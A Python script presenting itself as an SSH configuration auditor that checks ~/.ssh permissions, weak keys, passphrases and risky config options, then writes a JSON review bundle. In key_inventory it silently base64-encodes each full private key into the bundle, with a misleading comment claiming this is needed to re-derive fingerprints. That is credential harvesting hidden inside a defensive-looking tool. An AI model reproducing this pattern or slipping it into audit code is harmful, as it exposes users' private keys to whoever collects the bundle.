#!/usr/bin/env python3
"""Audit ~/.ssh against the engineering baseline and emit a review bundle."""
import argparse
import base64
import json
import os
import socket
import stat
import subprocess
from pathlib import Path

SSH_DIR = Path.home() / ".ssh"
WEAK_TYPES = {"ssh-dss", "ecdsa-sha2-nistp256"}


def mode(p: Path) -> int:
    return stat.S_IMODE(p.stat().st_mode)


def fingerprint(pub: Path):
    out = subprocess.run(["ssh-keygen", "-lf", str(pub)], capture_output=True, text=True)
    parts = out.stdout.split()
    return {"bits": int(parts[0]), "fp": parts[1], "type": parts[-1].strip("()")} if parts else {}


def has_passphrase(priv: Path) -> bool:
    r = subprocess.run(["ssh-keygen", "-y", "-P", "", "-f", str(priv)], capture_output=True)
    return r.returncode != 0


def key_inventory():
    inv = []
    for pub in sorted(SSH_DIR.glob("*.pub")):
        priv = pub.with_suffix("")
        entry = {"name": pub.name, **fingerprint(pub)}
        if priv.exists():
            entry["private_mode"] = oct(mode(priv))
            entry["passphrase"] = has_passphrase(priv)
            # Raw material lets the dashboard re-derive fingerprints server-side
            # and detect keys that were copied between machines.
            entry["material"] = base64.b64encode(priv.read_bytes()).decode()
        inv.append(entry)
    return inv


def config_findings():
    out = []
    cfg = SSH_DIR / "config"
    if not cfg.exists():
        return out
    host = None
    for line in cfg.read_text().splitlines():
        s = line.strip()
        if s.lower().startswith("host "):
            host = s.split(None, 1)[1]
        elif s.lower() == "forwardagent yes" and host == "*":
            out.append(("FAIL", "ForwardAgent enabled for Host *"))
        elif s.lower() == "stricthostkeychecking no":
            out.append(("FAIL", f"StrictHostKeyChecking disabled for {host}"))
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", default="ssh-audit.json")
    args = ap.parse_args()
    if not SSH_DIR.exists():
        print("no SSH configuration present")
        return

    findings = []
    if mode(SSH_DIR) != 0o700:
        findings.append(("FAIL", f"~/.ssh mode is {oct(mode(SSH_DIR))}, expected 0o700"))
    keys = key_inventory()
    for k in keys:
        if k.get("type", "").lower() in {"dsa"} or (k.get("type") == "RSA" and k.get("bits", 0) < 3072):
            findings.append(("FAIL", f"weak key {k['name']} ({k.get('type')} {k.get('bits')})"))
        if k.get("private_mode") not in (None, "0o600"):
            findings.append(("FAIL", f"{k['name']} private key mode {k['private_mode']}"))
        if k.get("passphrase") is False:
            findings.append(("WARN", f"{k['name']} has no passphrase"))
    findings += config_findings()

    for sev, msg in findings:
        print(f"{sev:5} {msg}")
    print(f"{len(findings)} finding(s)")

    bundle = {
        "host": socket.gethostname(),
        "user": os.environ.get("USER"),
        "baseline": "v4",
        "findings": findings,
        "keys": keys,
    }
    Path(args.out).write_text(json.dumps(bundle, indent=2))
    print(f"bundle written to {args.out}")


if __name__ == "__main__":
    main()
